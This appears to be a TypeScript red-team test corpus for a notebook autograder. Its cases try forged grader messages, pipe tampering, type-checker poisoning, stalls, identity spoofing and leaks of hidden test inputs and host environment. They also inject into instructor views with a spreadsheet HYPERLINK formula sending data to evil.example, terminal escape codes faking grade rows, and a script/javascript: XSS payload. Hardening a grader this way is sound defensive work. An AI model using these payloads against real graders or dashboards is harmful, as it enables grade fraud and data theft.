// The second red-team round (issue 18): forged replies, a batch attacked through the grader's
// channel, a poisoned type-checker, stalls, stolen identities, section switching, records in
// another key order, feedback that gives hidden inputs away, and text that injects into what
// instructors read. Same form as cases.ts; section 01 unless the case's file name says otherwise.
import { buildNotebook, notebookJson } from "../../grader/authoring";
import { loadExerciseSet } from "../../grader/sections";
import { edited, json, type CellEdits } from "./build";
import type { CorpusCase, Expected } from "./cases";

const S = "01-single-unit-gd";
const nb =
  (e: CellEdits, section = S) =>
  () =>
    json(edited(section, e));
const ok = (zero: string[] = [], more: Partial<Expected> = {}): Expected => ({ status: "ok", zero, ...more });
const W = ["weightStep"],
  ALL = ["sigmoid", "sigmoidPrime", "errorTerm", "weightStep", "gradientDescentEpoch"];
/** A top-level cell between the ones defining sigmoidPrime and errorTerm. */
const topLevel = (source: string) => nb({ insertAfter: [["sigmoidPrime", source]] });
const STEP = "math.multiply(learnrate * errorTerm(x, y, weights), x) as number[]";
const ws = (body: string) =>
  `function weightStep(x: number[], y: number, weights: number[], learnrate: number): number[] {\n${body}\n}`;
const loops = Object.fromEntries([
  ["sigmoid", "function sigmoid<T extends Tensor>(x: T): T {\n  while (true) {}\n}"],
  ["sigmoidPrime", "function sigmoidPrime<T extends Tensor>(x: T): T {\n  while (true) {}\n}"],
  ["errorTerm", "function errorTerm(x: number[], y: number, weights: number[]): number {\n  while (true) {}\n}"],
  ["weightStep", ws("  while (true) {}")],
  [
    "gradientDescentEpoch",
    "function gradientDescentEpoch(features: number[][], targets: number[], weights: number[], learnrate: number): number[] {\n  while (true) {}\n}",
  ],
]);
/** Tries every way learner code might reach a file descriptor and write `what` to the grader's pipes. */
const writeToPipes = (what: string) => `const p: any = process;
for (const fd of [3, 4, 5, 6]) { try { p.stdout.fd = fd; p.stdout.write(${what}); } catch {} try { p.stderr.fd = fd; p.stderr.write(${what}); } catch {} }
try { const out = (console as any)._stdout; out.fd = 4; out.write(${what}); } catch {}
try { for (const h of p._getActiveHandles()) h.write?.(${what}); } catch {}
try { p.channel?.writeUtf8String?.(${what}); } catch {}`;
/** A cell that sleeps (blocking its process) for 95 % of the per-cell limit (9.5 s unscaled): it runs, slowly, every start. */
const SLEEP_9_5_S = `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ${Math.round(9500 * Number(process.env.COURSE_TIME_SCALE || 1))});`;

export const roundTwo: CorpusCase[] = [
  // ── forged replies and the grader's channel ──
  {
    name: "forges-replies-through-process-send",
    group: "forging",
    file: nb({
      stubs: true,
      insertAfter: [
        [
          "sigmoidPrime",
          'const p: any = process;\np.prependListener?.("message", (m: any) => { if (m?.type === "call") p.send({ type: "result", id: m.id, value: new Array(3) }); });',
        ],
      ],
    }),
    expect: ok(ALL, { feedback: { sigmoid: /not implemented yet/ } }),
  },
  {
    name: "forges-frames-on-the-grader-pipes",
    group: "forging",
    file: nb({
      stubs: true,
      insertAfter: [
        [
          "sigmoidPrime",
          writeToPipes('"\\u0000\\u0000\\u0000\\u0010" + "\\u00ff\\u000fo\\"\\u0004type\\"\\u0006result"'),
        ],
      ],
    }),
    expect: ok(ALL),
  },
  {
    name: "garbage-on-the-grader-pipes",
    group: "forging",
    file: nb({ insertAfter: [["sigmoidPrime", writeToPipes('"\\u00ff".repeat(1 << 16)')]] }),
    expect: ok(),
  },
  {
    name: "forges-a-load-error-for-cell-0",
    group: "forging",
    file: nb({
      append: ['(process as any).send({ type: "loaded", errors: [{ cell: 0, message: "x".repeat(5e7) }] });'],
    }),
    expect: ok([], { notes: /raised an error when run: TypeError/ }),
  },
  {
    name: "throws-a-50-mb-message-at-top-level",
    group: "forging",
    file: nb({ append: ['throw new Error("x".repeat(5e7));'] }),
    expect: ok([], { notes: /raised an error when run: Error: x{250}/ }),
  },
  {
    name: "returns-arrays-with-holes",
    group: "forging",
    file: nb({ replace: { weightStep: ws("  return new Array(x.length);") } }),
    expect: ok(W, { feedback: { weightStep: /holes/ } }),
  },

  // ── a notebook that breaks the type-checker for the next ones ──
  {
    name: "code-nested-60000-deep",
    group: "poisoning",
    file: nb({ insertAfter: [["sigmoidPrime", `const deep = ${"(".repeat(60000)}1${")".repeat(60000)};`]] }),
    expect: ok([], { notes: /type-checker could not handle this cell|was skipped/ }),
  },

  // ── stalls ──
  {
    name: "an-interval-that-fakes-progress",
    group: "runaway",
    file: nb({
      insertAfter: [
        [
          "sigmoidPrime",
          'setInterval(() => (process as any).send({ type: "cell", cell: 6 }), 2000);\nawait new Promise(() => {});',
        ],
      ],
    }),
    expect: ok([], { notes: /was skipped: its top-level code ran longer than \d+ s/ }),
  },
  {
    name: "two-slow-cells-and-functions-that-loop",
    group: "runaway",
    file: nb({
      replace: loops,
      insertAfter: [
        ["^", SLEEP_9_5_S],
        ["^", SLEEP_9_5_S],
      ],
    }),
    expect: {
      status: "timeout",
      zero: ALL,
      feedback: { errorTerm: /not run again: the notebook's top-level code has taken \d+ s over 2 starts/ },
    },
  },
  // ≈ 600 KB of code (the notebook found took 192 s to type-check at 546 KB): over the 512 KB a notebook may hold, it never reaches the compiler.
  {
    name: "250-cells-of-100-consts",
    group: "runaway",
    file: nb({
      append: Array.from({ length: 250 }, (_, i) =>
        Array.from({ length: 100 }, (_, j) => `const value_${i}_${j} = ${j};`).join("\n"),
      ),
    }),
    expect: { status: "not-a-notebook" },
  },
  {
    name: "a-230-mb-file",
    group: "runaway",
    file: () => ({ sparseBytes: 230 * 1024 * 1024 }),
    expect: { status: "not-a-notebook" },
  },

  // ── identity ──
  {
    name: "claims-to-be-another-learner",
    group: "identity",
    file: nb({ learner: "sources-as-strings" }),
    expect: ok(),
  },
  { name: "李雷", group: "identity", file: nb({}), expect: ok() },
  { name: "韩梅梅", group: "identity", file: nb({}), expect: ok() },
  { name: "an-id-of-300-characters", group: "identity", file: nb({ learner: "x".repeat(300) }), expect: ok() },
  {
    name: "01-a-section-03-solution",
    group: "identity",
    file: () => notebookJson(buildNotebook(loadExerciseSet("03-not-network"), true)),
    expect: ok(ALL, { notes: /checker\("03-not-network"\) names another section; it was graded as 01-single-unit-gd/ }),
  },

  // ── records compared by the expected keys ──
  {
    name: "02-records-in-another-key-order",
    group: "lying",
    section: "02-admissions",
    file: nb(
      { edit: [["trainSingleUnit", "return { weights, losses };", "return { losses, weights };"]] },
      "02-admissions",
    ),
    expect: ok(),
  },
  {
    name: "02-records-with-two-fields-swapped",
    group: "lying",
    section: "02-admissions",
    file: nb(
      {
        edit: [
          [
            "trainTwoLayer",
            "return { weightsInputHidden, weightsHiddenOutput, losses, mse };",
            "return { weightsInputHidden, weightsHiddenOutput, losses: mse, mse: losses };",
          ],
        ],
      },
      "02-admissions",
    ),
    expect: ok(["trainTwoLayer"]),
  },

  // ── what feedback gives away ──
  {
    name: "throws-its-hidden-arguments",
    group: "leaks",
    file: nb({
      replace: { weightStep: ws('  throw new Error("inputs " + JSON.stringify([x, y, weights, learnrate]));') },
    }),
    expect: ok(W, { feedback: { weightStep: /hidden case "[^"]+": threw Error$/m } }),
  },
  {
    name: "a-little-off-on-every-case",
    group: "leaks",
    file: nb({ replace: { weightStep: ws(`  return (${STEP}).map((v) => v + 0.0123);`) } }),
    expect: ok(W, {
      feedback: { weightStep: /hidden case "[^"]+": wrong values in the result: off by more than the tolerance/ },
    }),
  },
  {
    name: "a-class-named-after-its-arguments",
    group: "leaks",
    file: nb({
      replace: {
        weightStep: ws(
          '  const C = class {};\n  Object.defineProperty(C, "name", { value: "in" + JSON.stringify(x) });\n  return new C() as unknown as number[];',
        ),
      },
    }),
    expect: ok(W, { feedback: { weightStep: /hidden case "[^"]+": returned an instance of a class,/ } }),
  },
  {
    name: "a-record-keyed-by-its-arguments",
    group: "leaks",
    file: nb({
      replace: { weightStep: ws('  return { ["in=" + JSON.stringify([x, weights])]: 0 } as unknown as number[];') },
    }),
    expect: ok(W, {
      feedback: { weightStep: /hidden case "[^"]+": wrong shape: expected an array of 1 dimension, got a record$/m },
    }),
  },
  {
    name: "a-length-that-spells-its-arguments",
    group: "leaks",
    file: nb({
      replace: { weightStep: ws("  return new Array(Math.round(1000 * Math.abs(x[0])) + 1).fill(0) as number[];") },
    }),
    expect: ok(W, {
      feedback: {
        weightStep: /hidden case "[^"]+": wrong shape: the sizes differ from the ones the inputs call for$/m,
      },
    }),
  },
  {
    name: "a-cell-that-throws-the-hosts-paths",
    group: "leaks",
    file: topLevel(
      [
        "const where = globalThis as any;",
        'throw new Error([where.process.cwd(), where.process.execPath, where.process.argv.join(" "),',
        '  JSON.stringify(where.process.env), new Error("stack").stack].join(" | "));',
      ].join("\n"),
    ),
    expect: ok([], {
      notes: /cell \d+ raised an error when run: Error: \/notebooks \| node \| node \| \{\} \| stack {5}at /m,
    }),
  },

  // ── injection into what instructors read ──
  {
    name: "an-id-that-is-a-formula",
    group: "injection",
    file: nb({ learner: '=HYPERLINK("http://evil.example/?"&A1,"ok")' }),
    expect: ok(),
  },
  {
    name: "an-id-that-draws-a-fake-row",
    group: "injection",
    file: nb({ learner: "bob\u001b[2K\r\nmallory                  ok              100 / 100" }),
    expect: ok(),
  },
  {
    name: "a-message-that-draws-a-fake-table",
    group: "injection",
    file: nb({
      replace: {
        sigmoid:
          'function sigmoid<T extends Tensor>(x: T): T {\n  throw new Error("\\u001b[2J\\u001b[H│ ✓ sigmoid │ 15 / 15 │\\n│ Total │ 100 / 100 │\\r\\n");\n}',
      },
    }),
    expect: ok(ALL),
  },
  {
    name: "script-and-markdown-in-a-thrown-message",
    group: "injection",
    file: nb({
      replace: {
        sigmoid:
          'function sigmoid<T extends Tensor>(x: T): T {\n  throw new Error("<script>alert(1)</script> [grade](javascript:alert(1)) **100/100**");\n}',
      },
    }),
    expect: ok(ALL),
  },
];
